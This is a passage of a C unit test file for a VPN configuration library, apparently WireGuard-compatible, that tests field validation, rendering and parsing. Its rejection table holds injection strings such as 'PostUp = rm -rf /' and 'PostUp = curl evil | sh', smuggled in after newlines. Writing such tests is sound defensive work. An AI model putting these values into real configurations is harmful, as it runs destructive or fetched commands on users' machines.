/* SPDX-License-Identifier: MIT */
#include "config.h"

#include <stdint.h>
#include <string.h>

#include <myrelay/myrelay.h>
#include "../libmyrelay/internal.h"
#include "testutil.h"

/* Keys made with `wg genkey | tee /dev/stderr | wg pubkey` and `wg genpsk`. */
#define PRIV "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6DXU="
#define PRIV_PUB "AFg+HiTKNMgF0vlZiGzHd6mmhMn1vRaSnV2Z6MTbdQc="
#define PEER "+V+9Jju8EOQWHYDaq2ZJmVggRX6k38cqCNBXNGEGf1E="
#define PSK "VVwJd/CMLdK3jVN5VYWYs3+2TKAr5eoojJHNRY7cA8w="
#define ZERO_KEY "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="
/* PRIV with the last data character's unused low bits set. */
#define PRIV_NONCANON "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6DXV="

#define FULL_TEXT                                                                             \
	"[Interface]\n"                                                                       \
	"PrivateKey = " PRIV "\n"                                                             \
	"Address = 10.64.3.2/32, fd00::2/128\n"                                               \
	"DNS = 10.64.3.1\n"                                                                   \
	"MTU = 1420\n"                                                                        \
	"\n"                                                                                  \
	"[Peer]\n"                                                                            \
	"PublicKey = " PEER "\n"                                                              \
	"PresharedKey = " PSK "\n"                                                            \
	"Endpoint = vpn.example.com:51820\n"                                                  \
	"AllowedIPs = 0.0.0.0/0, ::/0\n"                                                      \
	"PersistentKeepalive = 25\n"

#define MINIMAL_TEXT                                                                          \
	"[Interface]\n"                                                                       \
	"PrivateKey = " PRIV "\n"                                                             \
	"Address = 10.64.3.2/32\n"                                                            \
	"\n"                                                                                  \
	"[Peer]\n"                                                                            \
	"PublicKey = " PEER "\n"                                                              \
	"Endpoint = 192.0.2.1:51820\n"                                                        \
	"AllowedIPs = 10.64.0.0/16\n"

enum field { PRIVATE_KEY, ADDRESS, DNS, PUBLIC_KEY, PRESHARED_KEY, ENDPOINT, ALLOWED_IP };

static const char *const field_names[] = {
	"PrivateKey", "Address", "DNS", "PublicKey", "PresharedKey", "Endpoint", "AllowedIPs",
};

static int set_field(mr_conf *c, enum field f, const char *v)
{
	switch (f) {
	case PRIVATE_KEY:
		return mr_conf_set_private_key(c, v);
	case ADDRESS:
		return mr_conf_add_address(c, v);
	case DNS:
		return mr_conf_add_dns(c, v);
	case PUBLIC_KEY:
		return mr_conf_set_peer_public_key(c, v);
	case PRESHARED_KEY:
		return mr_conf_set_preshared_key(c, v);
	case ENDPOINT:
		return mr_conf_set_endpoint(c, v);
	case ALLOWED_IP:
		return mr_conf_add_allowed_ip(c, v);
	}
	return -999;
}

/* The value a single-valued field holds, or the last item of a list. */
static const char *get_field(const mr_conf *c, enum field f)
{
	switch (f) {
	case PRIVATE_KEY:
		return mr_conf_get_private_key(c);
	case ADDRESS:
		return mr_conf_get_address(c, mr_conf_address_count(c) - 1);
	case DNS:
		return mr_conf_get_dns(c, mr_conf_dns_count(c) - 1);
	case PUBLIC_KEY:
		return mr_conf_get_peer_public_key(c);
	case PRESHARED_KEY:
		return mr_conf_get_preshared_key(c);
	case ENDPOINT:
		return mr_conf_get_endpoint(c);
	case ALLOWED_IP:
		return mr_conf_get_allowed_ip(c, mr_conf_allowed_ip_count(c) - 1);
	}
	return NULL;
}

static mr_conf *make_full(void)
{
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_private_key(c, PRIV));
	ck_mr_ok(mr_conf_add_address(c, "10.64.3.2/32"));
	ck_mr_ok(mr_conf_add_address(c, "fd00::2/128"));
	ck_mr_ok(mr_conf_add_dns(c, "10.64.3.1"));
	ck_mr_ok(mr_conf_set_mtu(c, 1420));
	ck_mr_ok(mr_conf_set_peer_public_key(c, PEER));
	ck_mr_ok(mr_conf_set_preshared_key(c, PSK));
	ck_mr_ok(mr_conf_set_endpoint(c, "vpn.example.com:51820"));
	ck_mr_ok(mr_conf_add_allowed_ip(c, "0.0.0.0/0"));
	ck_mr_ok(mr_conf_add_allowed_ip(c, "::/0"));
	ck_mr_ok(mr_conf_set_keepalive(c, 25));
	return c;
}

static char *render(const mr_conf *c)
{
	char *text = NULL;

	ck_mr_ok(mr_conf_render(c, &text));
	ck_assert_ptr_nonnull(text);
	return text;
}

/* ------------------------------------------------------------------------ */

static const struct {
	enum field f;
	const char *in;
	const char *stored; /* NULL: as given */
} good[] = {
	{ PRIVATE_KEY, PRIV, NULL },
	{ PUBLIC_KEY, PEER, NULL },
	{ PUBLIC_KEY, PRIV_PUB, NULL },
	{ PRESHARED_KEY, PSK, NULL },
	{ ADDRESS, "10.64.3.2/32", NULL },
	{ ADDRESS, "10.64.3.2/24", NULL },
	{ ADDRESS, "fd00::2/128", NULL },
	{ ADDRESS, "FD00:0:0::2/64", "fd00::2/64" },
	{ ADDRESS, "::ffff:10.0.0.1/128", "::ffff:10.0.0.1/128" },
	{ ADDRESS, "192.168.1.1/0", NULL },
	{ DNS, "10.64.3.1", NULL },
	{ DNS, "fd00::1", NULL },
	{ DNS, "2001:DB8::53", "2001:db8::53" },
	{ DNS, "1.1.1.1", NULL },
	{ ENDPOINT, "vpn.example.com:51820", NULL },
	{ ENDPOINT, "VPN.Example.COM:51820", NULL },
	{ ENDPOINT, "192.0.2.1:51820", NULL },
	{ ENDPOINT, "[2001:db8::1]:51820", NULL },
	{ ENDPOINT, "[2001:DB8:0::1]:1", "[2001:db8::1]:1" },
	{ ENDPOINT, "a:65535", NULL },
	{ ENDPOINT, "xn--bcher-kva.example:443", NULL },
	{ ENDPOINT, "a-b.c-d.e1:5", NULL },
	{ ENDPOINT, "1.2.3.4a:5", NULL },
	{ ALLOWED_IP, "0.0.0.0/0", NULL },
	{ ALLOWED_IP, "::/0", NULL },
	{ ALLOWED_IP, "10.64.0.0/16", NULL },
	{ ALLOWED_IP, "fd00::/8", NULL },
	{ ALLOWED_IP, "192.168.1.1/32", NULL },
	{ ALLOWED_IP, "2001:DB8::/32", "2001:db8::/32" },
	{ ALLOWED_IP, "224.0.0.0/4", NULL },
};

START_TEST(test_good_values)
{
	mr_conf *c = NULL;
	const char *want = good[_i].stored ? good[_i].stored : good[_i].in;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(set_field(c, good[_i].f, good[_i].in));
	ck_assert_str_eq(get_field(c, good[_i].f), want);
	mr_conf_free(c);
}
END_TEST

#define LONG_LABEL "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" /* 64 */
#define LABEL_63 "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"

static const struct {
	enum field f;
	const char *in;
	int rc;
	const char *msg; /* found in the detail after "conf: <Field>: " */
} bad[] = {
	/* directive injection through every field */
	{ ADDRESS, "10.0.0.1/32\nPostUp = rm -rf /", MR_EINVAL, "contains a newline" },
	{ ADDRESS, "10.0.0.1/32\r\nPostUp = rm -rf /", MR_EINVAL, "contains a carriage return" },
	{ ADDRESS, "10.0.0.1/32\r", MR_EINVAL, "contains a carriage return" },
	{ ADDRESS, "10.0.0.1/32 ", MR_EINVAL, "contains a space" },
	{ ADDRESS, " 10.0.0.1/32", MR_EINVAL, "contains a space" },
	{ ADDRESS, "10.0.0.1/32,10.0.0.2/32", MR_EINVAL, "contains ','" },
	{ ADDRESS, "10.0.0.1/32#x", MR_EINVAL, "contains '#'" },
	{ ADDRESS, "x = y", MR_EINVAL, "contains a space" },
	{ ADDRESS, "x=y", MR_EINVAL, "contains '='" },
	{ ADDRESS, "[10.0.0.1]/32", MR_EINVAL, "contains '['" },
	{ ADDRESS, "10.0.0.1]/32", MR_EINVAL, "contains ']'" },
	{ ADDRESS, "10.0.0.1/32\t", MR_EINVAL, "contains a control character" },
	{ ADDRESS, "10.0.0.1/32\x7f", MR_EINVAL, "contains a control character" },
	{ ADDRESS, "10.0.0.1/32\x1b[0m", MR_EINVAL, "contains a control character" },
	{ ADDRESS, "10.0.0.1/32\xc2\xa0", MR_EINVAL, "contains a non-ASCII character" },
	{ ADDRESS, "", MR_EINVAL, "is empty" },
	/* malformed addresses */
	{ ADDRESS, "10.0.0.1", MR_EINVAL, "missing prefix length" },
	{ ADDRESS, "10.0.0.1/33", MR_EINVAL, "prefix length out of range for IPv4 (0-32)" },
	{ ADDRESS, "fd00::1/129", MR_EINVAL, "prefix length out of range for IPv6 (0-128)" },
	{ ADDRESS, "10.0.0.1/032", MR_EINVAL, "prefix length" },
	{ ADDRESS, "10.0.0.1/+3", MR_EINVAL, "prefix length" },
	{ ADDRESS, "10.0.0.1/", MR_EINVAL, "prefix length" },
	{ ADDRESS, "10.0.0.1/3/2", MR_EINVAL, "more than one '/'" },
	{ ADDRESS, "010.0.0.1/32", MR_EINVAL, "IPv4 octet \"010\" has a leading zero" },
	{ ADDRESS, "10.0.0/24", MR_EINVAL, "IPv4 address needs 4 octets, got 3" },
	{ ADDRESS, "256.0.0.1/32", MR_EINVAL, "IPv4 octet \"256\" is larger than 255" },
	{ ADDRESS, "1::2::3/64", MR_EINVAL, "more than one \"::\" in IPv6 address" },
	{ ADDRESS, "host.example/32", MR_EINVAL, "unexpected character 'h'" },
	{ ADDRESS, "fe80::1%eth0/64", MR_EINVAL, "IPv6 zone ids" },
	{ ADDRESS, "0.0.0.0/0", MR_EINVAL, "unspecified address" },
	{ ADDRESS, "::/128", MR_EINVAL, "unspecified address" },
	{ ADDRESS, "224.0.0.1/32", MR_EINVAL, "multicast" },
	{ ADDRESS, "ff02::1/128", MR_EINVAL, "multicast" },
	{ ADDRESS, "10.64.3.2/32", MR_EEXIST, "10.64.3.2/32 is already present" },
	{ ADDRESS, "FD00::2/128", MR_EEXIST, "fd00::2/128 is already present" },
	/* DNS */
	{ DNS, "10.64.3.1\nPostUp = curl evil | sh", MR_EINVAL, "contains a newline" },
	{ DNS, "10.64.3.1, 10.64.3.2", MR_EINVAL, "contains ','" },
	{ DNS, "10.64.3.9 ", MR_EINVAL, "contains a space" },
	{ DNS, "example.com", MR_EINVAL, "search domains are not supported" },
	{ DNS, "10.64.3.9/32", MR_EINVAL, "expected a bare address, without \"/length\"" },
	{ DNS, "0.0.0.0", MR_EINVAL, "unspecified address" },
	{ DNS, "1.2.3", MR_EINVAL, "IPv4 address needs 4 octets, got 3" },
	{ DNS, "", MR_EINVAL, "is empty" },
	{ DNS, "10.64.3.1", MR_EEXIST, "already present" },
	/* Endpoint */
	{ ENDPOINT, "1.2.3.4:51820\r\n[Peer]", MR_EINVAL, "contains a carriage return" },
	{ ENDPOINT, "1.2.3.4:51820\n[Peer]", MR_EINVAL, "contains a newline" },
	{ ENDPOINT, "1.2.3.4:51820\nPostUp = id", MR_EINVAL, "contains a newline" },
	{ ENDPOINT, "vpn.example.com:51820#x", MR_EINVAL, "contains '#'" },
	{ ENDPOINT, "1.2.3.4:51820 ", MR_EINVAL, "contains a space" },
	{ ENDPOINT, "x = y", MR_EINVAL, "contains a space" },
	{ ENDPOINT, "a=b:1", MR_EINVAL, "contains '='" },
	{ ENDPOINT, "vpn.example.com:51820]", MR_EINVAL, "contains ']'" },
	{ ENDPOINT, "vpn[1].example.com:1", MR_EINVAL, "contains '['" },
	{ ENDPOINT, "vpn.example.com", MR_EINVAL, "missing the port" },
	{ ENDPOINT, "vpn.example.com:0", MR_EINVAL, "port must be a number from 1 to 65535" },
	{ ENDPOINT, "vpn.example.com:65536", MR_EINVAL, "port must be" },
	{ ENDPOINT, "vpn.example.com:051820", MR_EINVAL, "port must be" },
	{ ENDPOINT, "vpn.example.com:+1", MR_EINVAL, "port must be" },
	{ ENDPOINT, "vpn.example.com:", MR_EINVAL, "port must be" },
	{ ENDPOINT, ":51820", MR_EINVAL, "missing the host" },
	{ ENDPOINT, "2001:db8::1:51820", MR_EINVAL, "must be in brackets" },
	{ ENDPOINT, "[2001:db8::1]", MR_EINVAL, "expected ':PORT' after ']'" },
	{ ENDPOINT, "[::1]x:1", MR_EINVAL, "expected ':PORT' after ']'" },
	{ ENDPOINT, "[2001:db8::1:51820", MR_EINVAL, "missing ']'" },
	{ ENDPOINT, "[1.2.3.4]:51820", MR_EINVAL, "brackets are only for IPv6" },
	{ ENDPOINT, "[fe80::1%eth0]:51820", MR_EINVAL, "IPv6 zone ids" },
	{ ENDPOINT, "[::]:51820", MR_EINVAL, "unspecified address" },
	{ ENDPOINT, "224.0.0.1:1", MR_EINVAL, "multicast" },
	{ ENDPOINT, "-vpn.example.com:1", MR_EINVAL, "cannot start with '-'" },
	{ ENDPOINT, "vpn-.example.com:1", MR_EINVAL, "cannot end with '-'" },
	{ ENDPOINT, "vpn..example.com:1", MR_EINVAL, "empty label" },
	{ ENDPOINT, "vpn.example.com.:1", MR_EINVAL, "empty label" },
	{ ENDPOINT, "vpn_x.example.com:1", MR_EINVAL, "invalid character '_'" },
	{ ENDPOINT, "a.123:1", MR_EINVAL, "cannot be all digits" },
	{ ENDPOINT, "127.1:51820", MR_EINVAL, "IPv4 address needs 4 octets, got 2" },
	{ ENDPOINT, "0x7f000001:51820", MR_EINVAL, "reads as a numeric address" },
	{ ENDPOINT, LONG_LABEL ".example:1", MR_EINVAL, "longer than 63" },
	{ ENDPOINT, LABEL_63 "." LABEL_63 "." LABEL_63 "." LABEL_63 ":1", MR_EINVAL,
	  "longer than 253" },
	{ ENDPOINT, "", MR_EINVAL, "is empty" },
	/* AllowedIPs */
	{ ALLOWED_IP, "0.0.0.0/0\nPostUp = rm -rf /", MR_EINVAL, "contains a newline" },
	{ ALLOWED_IP, "0.0.0.0/0, ::/0", MR_EINVAL, "contains ','" },
	{ ALLOWED_IP, "10.0.0.1/8", MR_EINVAL, "host bits set (network is 10.0.0.0/8)" },
	{ ALLOWED_IP, "fd00::1/8", MR_EINVAL, "host bits set (network is fd00::/8)" },
	{ ALLOWED_IP, "10.64.3.129/25", MR_EINVAL, "host bits set" },
	{ ALLOWED_IP, "10.0.0.0", MR_EINVAL, "missing prefix length" },
	{ ALLOWED_IP, "::/129", MR_EINVAL, "prefix length" },
	{ ALLOWED_IP, "::/0", MR_EEXIST, "::/0 is already present" },
	/* keys */
	{ PRIVATE_KEY, PRIV "\n", MR_EINVAL, "contains a newline" },
	{ PRIVATE_KEY, PRIV "\nPostUp = id", MR_EINVAL, "contains a newline" },
	{ PRIVATE_KEY, PRIV "\r", MR_EINVAL, "contains a carriage return" },
	{ PRIVATE_KEY, PRIV " ", MR_EINVAL, "contains a space" },
	{ PRIVATE_KEY, "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6DX=", MR_EINVAL,
	  "expected 44 characters, got 43" },
	{ PRIVATE_KEY, PRIV_NONCANON, MR_EINVAL, "not canonical" },
	{ PRIVATE_KEY, "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6D!U=", MR_EINVAL,
	  "invalid base64" },
	{ PRIVATE_KEY, "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6D#U=", MR_EINVAL, "contains '#'" },
	{ PRIVATE_KEY, ZERO_KEY, MR_EINVAL, "all-zero key" },
	{ PRIVATE_KEY, "", MR_EINVAL, "is empty" },
	{ PUBLIC_KEY, " " PEER, MR_EINVAL, "contains a space" },
	{ PUBLIC_KEY, PEER "\n[Peer]", MR_EINVAL, "contains a newline" },
	{ PUBLIC_KEY, ZERO_KEY, MR_EINVAL, "all zeros" },
	{ PUBLIC_KEY, "+V+9Jju8EOQWHYDaq2ZJmVggRX6k38cqCNBXNGEGf1E", MR_EINVAL,
	  "expected 44 characters" },
	{ PRESHARED_KEY, ZERO_KEY, MR_EINVAL, "all-zero key" },
	{ PRESHARED_KEY, PSK "\n", MR_EINVAL, "contains a newline" },
	{ PRESHARED_KEY, "VVwJd/CMLdK3jVN5VYWYs3+2TKAr5eoojJHNRY7cA8w==", MR_EINVAL,
	  "expected 44 characters, got 45" },
};

START_TEST(test_bad_values)
{
	mr_conf *c = make_full();
	char *before = render(c), *after;
	char want[256];

	mr_error_clear();
	ck_mr_err(set_field(c, bad[_i].f, bad[_i].in), bad[_i].rc);
	/* The detail names the field first, then says what is wrong. */
	snprintf(want, sizeof(want), "conf: %s: ", field_names[bad[_i].f]);
	ck_assert_msg(strncmp(mr_error_message(), want, strlen(want)) == 0 &&
			      strstr(mr_error_message() + strlen(want), bad[_i].msg),
		      "row %d: got \"%s\", wanted \"%s...%s...\"", _i, mr_error_message(), want,
		      bad[_i].msg);
	/* Refused: nothing changed. */
	after = render(c);
	ck_assert_str_eq(before, after);
	mr_conf_free_text(before);
	mr_conf_free_text(after);
	mr_conf_free(c);
}
END_TEST

/* Error details never quote a key, good or bad. */
START_TEST(test_key_errors_do_not_echo)
{
	static const char *const keys[] = {
		PRIV "\n", PRIV_NONCANON, PRIV "x", "iABzX42ApUXr07yml1VxC5C8DTstqPU2oBvGxiS6D!U=",
	};
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_new(&c));
	for (size_t i = 0; i < MR_ARRAY_SIZE(keys); i++) {
		ck_assert_int_eq(mr_conf_set_private_key(c, keys[i]), MR_EINVAL);
		ck_assert_ptr_null(strstr(mr_error_message(), "iABzX42A"));
		ck_assert_ptr_null(strstr(mr_error_message(), "iS6D"));
		ck_assert_int_eq(mr_conf_set_preshared_key(c, keys[i]), MR_EINVAL);
		ck_assert_ptr_null(strstr(mr_error_message(), "iABzX42A"));
	}
	ck_assert_ptr_null(mr_conf_get_private_key(c));
	ck_assert_ptr_null(mr_conf_get_preshared_key(c));
	mr_conf_free(c);
}
END_TEST

static const struct {
	uint32_t v;
	int rc;
} mtus[] = {
	{ 0, 0 },	     { 576, 0 },	 { 1280, 0 },	      { 1420, 0 },
	{ 9000, 0 },	     { 575, MR_EINVAL }, { 9001, MR_EINVAL }, { 1, MR_EINVAL },
	{ UINT32_MAX, MR_EINVAL },
}, keepalives[] = {
	{ 0, 0 }, { 1, 0 }, { 25, 0 }, { 65535, 0 }, { 65536, MR_EINVAL }, { UINT32_MAX, MR_EINVAL },
};

START_TEST(test_mtu_values)
{
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_mtu(c, 1500));
	if (mtus[_i].rc == 0) {
		ck_mr_ok(mr_conf_set_mtu(c, mtus[_i].v));
		ck_assert_uint_eq(mr_conf_get_mtu(c), mtus[_i].v);
	} else {
		ck_mr_err(mr_conf_set_mtu(c, mtus[_i].v), mtus[_i].rc);
		ck_assert_str_eq(mr_error_message(), "conf: MTU: must be 0 (unset) or 576 to 9000");
		ck_assert_uint_eq(mr_conf_get_mtu(c), 1500);
	}
	mr_conf_free(c);
}
END_TEST

START_TEST(test_keepalive_values)
{
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_keepalive(c, 10));
	if (keepalives[_i].rc == 0) {
		ck_mr_ok(mr_conf_set_keepalive(c, keepalives[_i].v));
		ck_assert_uint_eq(mr_conf_get_keepalive(c), keepalives[_i].v);
	} else {
		ck_mr_err(mr_conf_set_keepalive(c, keepalives[_i].v), keepalives[_i].rc);
		ck_assert_uint_eq(mr_conf_get_keepalive(c), 10);
	}
	mr_conf_free(c);
}
END_TEST

/* Linux turns IPv6 off below 1280: the pair is refused whichever comes
 * second. */
START_TEST(test_mtu_ipv6_rule)
{
	mr_conf *c = NULL;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_mtu(c, 1000));
	ck_mr_ok(mr_conf_add_address(c, "10.0.0.2/32"));
	ck_mr_err(mr_conf_add_address(c, "fd00::2/128"), MR_EINVAL);
	ck_assert_str_eq(mr_error_message(),
			 "conf: Address: an IPv6 address needs an MTU of at least 1280 (MTU is 1000)");
	ck_assert_uint_eq(mr_conf_address_count(c), 1);
	ck_mr_ok(mr_conf_set_mtu(c, 0));
	ck_mr_ok(mr_conf_add_address(c, "fd00::2/128"));
	ck_mr_err(mr_conf_set_mtu(c, 1279), MR_EINVAL);
	ck_assert_str_eq(mr_error_message(), "conf: MTU: must be at least 1280 with an IPv6 address");
	ck_assert_uint_eq(mr_conf_get_mtu(c), 0);
	ck_mr_ok(mr_conf_set_mtu(c, 1280));
	ck_mr_ok(mr_conf_set_mtu(c, 0));
	mr_conf_free(c);
}
END_TEST

START_TEST(test_null_arguments)
{
	mr_conf *c = NULL;
	char *text = (char *)"sentinel";

	ck_mr_err(mr_conf_new(NULL), MR_EINVAL);
	ck_mr_ok(mr_conf_new(&c));
	for (int f = PRIVATE_KEY; f <= ALLOWED_IP; f++) {
		ck_mr_err(set_field(c, (enum field)f, NULL), MR_EINVAL);
		ck_mr_err(set_field(NULL, (enum field)f, "10.0.0.0/8"), MR_EINVAL);
	}
	ck_mr_err(mr_conf_set_mtu(NULL, 1420), MR_EINVAL);
	ck_mr_err(mr_conf_set_keepalive(NULL, 25), MR_EINVAL);
	ck_mr_err(mr_conf_render(NULL, &text), MR_EINVAL);
	ck_mr_err(mr_conf_render(c, NULL), MR_EINVAL);
	ck_mr_err(mr_conf_parse(NULL, FULL_TEXT), MR_EINVAL);
	ck_mr_err(mr_conf_parse(&c, NULL), MR_EINVAL);
	ck_assert_str_eq(text, "sentinel");

	ck_assert_ptr_null(mr_conf_get_private_key(NULL));
	ck_assert_ptr_null(mr_conf_get_peer_public_key(NULL));
	ck_assert_ptr_null(mr_conf_get_preshared_key(NULL));
	ck_assert_ptr_null(mr_conf_get_endpoint(NULL));
	ck_assert_ptr_null(mr_conf_get_address(NULL, 0));
	ck_assert_ptr_null(mr_conf_get_dns(NULL, 0));
	ck_assert_ptr_null(mr_conf_get_allowed_ip(NULL, 0));
	ck_assert_uint_eq(mr_conf_address_count(NULL), 0);
	ck_assert_uint_eq(mr_conf_dns_count(NULL), 0);
	ck_assert_uint_eq(mr_conf_allowed_ip_count(NULL), 0);
	ck_assert_uint_eq(mr_conf_get_mtu(NULL), 0);
	ck_assert_uint_eq(mr_conf_get_keepalive(NULL), 0);

	/* An empty object: everything unset, out-of-range indexes give NULL. */
	ck_assert_ptr_null(mr_conf_get_private_key(c));
	ck_assert_ptr_null(mr_conf_get_endpoint(c));
	ck_assert_ptr_null(mr_conf_get_address(c, 0));
	ck_assert_ptr_null(mr_conf_get_allowed_ip(c, SIZE_MAX));
	mr_conf_free(c);
	mr_conf_free(NULL);
	mr_conf_free_text(NULL);
}
END_TEST

/* ------------------------------------------------------------------------ */

START_TEST(test_render_full)
{
	mr_conf *c = make_full();
	char *text = render(c);

	ck_assert_str_eq(text, FULL_TEXT);
	mr_conf_free_text(text);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_render_minimal)
{
	mr_conf *c = NULL;
	char *text;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_private_key(c, PRIV));
	ck_mr_ok(mr_conf_add_address(c, "10.64.3.2/32"));
	ck_mr_ok(mr_conf_set_peer_public_key(c, PEER));
	ck_mr_ok(mr_conf_set_endpoint(c, "192.0.2.1:51820"));
	ck_mr_ok(mr_conf_add_allowed_ip(c, "10.64.0.0/16"));
	text = render(c);
	ck_assert_str_eq(text, MINIMAL_TEXT);
	mr_conf_free_text(text);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_render_incomplete_empty)
{
	mr_conf *c = NULL;
	char *text = (char *)"sentinel";

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_err(mr_conf_render(c, &text), MR_EINVAL);
	ck_assert_str_eq(mr_error_message(), "conf: incomplete configuration: missing PrivateKey, "
					     "Address, PublicKey, Endpoint, AllowedIPs");
	ck_assert_str_eq(text, "sentinel");
	mr_conf_free(c);
}
END_TEST

/* Leave out one required field at a time. */
START_TEST(test_render_incomplete_each)
{
	static const enum field required[] = { PRIVATE_KEY, ADDRESS, PUBLIC_KEY, ENDPOINT,
					       ALLOWED_IP };
	static const char *const values[] = { PRIV, "10.0.0.2/32", PEER, "192.0.2.1:1",
					      "0.0.0.0/0" };
	mr_conf *c = NULL;
	char *text = NULL;
	char want[128];

	ck_mr_ok(mr_conf_new(&c));
	for (size_t i = 0; i < MR_ARRAY_SIZE(required); i++)
		if ((int)i != _i)
			ck_mr_ok(set_field(c, required[i], values[i]));
	ck_mr_err(mr_conf_render(c, &text), MR_EINVAL);
	snprintf(want, sizeof(want), "conf: incomplete configuration: missing %s",
		 field_names[required[_i]]);
	ck_assert_str_eq(mr_error_message(), want);
	ck_assert_ptr_null(text);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_render_refuses_self_peer)
{
	mr_conf *c = make_full();
	char *text = NULL;

	ck_mr_ok(mr_conf_set_peer_public_key(c, PRIV_PUB));
	ck_mr_err(mr_conf_render(c, &text), MR_EINVAL);
	ck_assert_str_eq(mr_error_message(), "conf: PublicKey: is the interface's own public key");
	ck_assert_ptr_null(text);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_round_trip_full)
{
	mr_conf *c = make_full(), *back = NULL;
	char *a = render(c), *b;

	ck_mr_ok(mr_conf_parse(&back, a));
	b = render(back);
	ck_assert_str_eq(a, b);
	ck_assert_str_eq(mr_conf_get_private_key(back), PRIV);
	ck_assert_uint_eq(mr_conf_address_count(back), 2);
	ck_assert_str_eq(mr_conf_get_address(back, 0), "10.64.3.2/32");
	ck_assert_str_eq(mr_conf_get_address(back, 1), "fd00::2/128");
	ck_assert_ptr_null(mr_conf_get_address(back, 2));
	ck_assert_uint_eq(mr_conf_dns_count(back), 1);
	ck_assert_str_eq(mr_conf_get_dns(back, 0), "10.64.3.1");
	ck_assert_uint_eq(mr_conf_get_mtu(back), 1420);
	ck_assert_str_eq(mr_conf_get_peer_public_key(back), PEER);
	ck_assert_str_eq(mr_conf_get_preshared_key(back), PSK);
	ck_assert_str_eq(mr_conf_get_endpoint(back), "vpn.example.com:51820");
	ck_assert_uint_eq(mr_conf_allowed_ip_count(back), 2);
	ck_assert_str_eq(mr_conf_get_allowed_ip(back, 0), "0.0.0.0/0");
	ck_assert_str_eq(mr_conf_get_allowed_ip(back, 1), "::/0");
	ck_assert_uint_eq(mr_conf_get_keepalive(back), 25);
	mr_conf_free_text(a);
	mr_conf_free_text(b);
	mr_conf_free(back);
	mr_conf_free(c);
}
END_TEST

START_TEST(test_round_trip_minimal)
{
	mr_conf *c = NULL;
	char *b;

	ck_mr_ok(mr_conf_parse(&c, MINIMAL_TEXT));
	b = render(c);
	ck_assert_str_eq(b, MINIMAL_TEXT);
	ck_assert_ptr_null(mr_conf_get_preshared_key(c));
	ck_assert_uint_eq(mr_conf_dns_count(c), 0);
	ck_assert_uint_eq(mr_conf_get_mtu(c), 0);
	ck_assert_uint_eq(mr_conf_get_keepalive(c), 0);
	mr_conf_free_text(b);
	mr_conf_free(c);
}
END_TEST

/* Every list at its limit with the longest canonical entries: the text stays
 * under MR_CONF_MAX_TEXT, so what we render we can always parse. */
START_TEST(test_limits_round_trip)
{
	mr_conf *c = NULL, *back = NULL;
	char item[64], host[300], *a, *b;
	unsigned i;

	ck_mr_ok(mr_conf_new(&c));
	ck_mr_ok(mr_conf_set_private_key(c, PRIV));
	ck_mr_ok(mr_conf_set_peer_public_key(c, PEER));
	ck_mr_ok(mr_conf_set_preshared_key(c, PSK));
	ck_mr_ok(mr_conf_set_mtu(c, 9000));
	ck_mr_ok(mr_conf_set_keepalive(c, 65535));
	/* The longest host name: 253 characters. */
	memset(host, 'c', sizeof(host));
	host[63] = host[127] = host[191] = '.';
	snprintf(host + 253, sizeof(host) - 253, ":65535");
	ck_mr_ok(mr_conf_set_endpoint(c, host));
	host[252] = 'c';
	snprintf(host + 253, sizeof(host) - 253, "c:1");
	ck_mr_err(mr_conf_set_endpoint(c, host), MR_EINVAL);
	for (i = 0; i < MR_CONF_MAX_ADDRESSES; i++) {
		snprintf(item, sizeof(item), "fdff:ffff:ffff:ffff:ffff:ffff:ffff:%x/128", 0xff00 + i);
		ck_mr_ok(mr_conf_add_address(c, item));
	}
	ck_mr_err(mr_conf_add_address(c, "10.0.0.1/32"), MR_ETOOBIG);
	for (i = 0; i < MR_CONF_MAX_DNS; i++) {
		snprintf(item, sizeof(item), "fdff:ffff:ffff:ffff:ffff:ffff:ffff:%x", 0xff00 + i);
		ck_mr_ok(mr_conf_add_dns(c, item));
	}
	ck_mr_err(mr_conf_add_dns(c, "10.0.0.1"), MR_ETOOBIG);
	for (i = 0; i < MR_CONF_MAX_ALLOWED_IPS; i++) {
		snprintf(item, sizeof(item), "ffff:ffff:ffff:ffff:ffff:ffff:ffff:%x/128", 0xf000 + i);
		ck_mr_ok(mr_conf_add_allowed_ip(c, item));
	}
	ck_mr_err(mr_conf_add_allowed_ip(c, "10.0.0.0/8"), MR_ETOOBIG);
	ck_assert_str_eq(mr_error_message(), "conf: AllowedIPs: at most 1024 entries are allowed");

	a = render(c);
	ck_assert_uint_lt(strlen(a), MR_CONF_MAX_TEXT);
	ck_assert_uint_gt(strlen(a), 45000);
	ck_mr_ok(mr_conf_parse(&back, a));
	b = render(back);
	ck_assert_str_eq(a, b);
	ck_assert_uint_eq(mr_conf_allowed_ip_count(back), MR_CONF_MAX_ALLOWED_IPS);
	mr_conf_free_text(a);
	mr_conf_free_text(b);
	mr_conf_free(back);
	mr_conf_free(c);
}
END_TEST

/* ------------------------------------------------------------------------ */

/* Texts wg-quick reads as the full configuration: each must parse and render
 * back to FULL_TEXT exactly. */
static const char *const parse_good[] = {
	FULL_TEXT,
	/* case-insensitive section names and keys, no spaces, tabs */
	"[interface]\nprivatekey=" PRIV "\naddress=10.64.3.2/32,fd00::2/128\n"
